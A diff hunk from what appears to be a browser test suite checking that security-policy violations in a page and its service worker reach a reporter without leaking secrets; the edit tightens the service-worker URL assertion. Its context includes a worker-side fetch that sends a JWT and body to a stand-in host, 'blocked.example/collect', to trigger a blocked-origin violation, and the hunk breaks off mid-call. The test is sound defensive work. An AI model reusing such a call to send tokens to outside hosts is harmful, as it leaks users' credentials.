@@ -65,7 +65,7 @@ it('a violation in the page and one in the worker reach the reporter, with no se
   // In the worker: a call to an origin its policy does not allow, the secrets in its headers
   // and body.
   const [worker] = context.serviceWorkers()
-  expect(worker, 'the app’s service worker').toBeDefined()
+  expect(worker?.url(), 'the app’s service worker').toBe(appUrl + '/sw.js')
   const outcome = await worker?.evaluate(
     ({ jwt, body }) =>
       fetch('https://blocked.example/collect', {
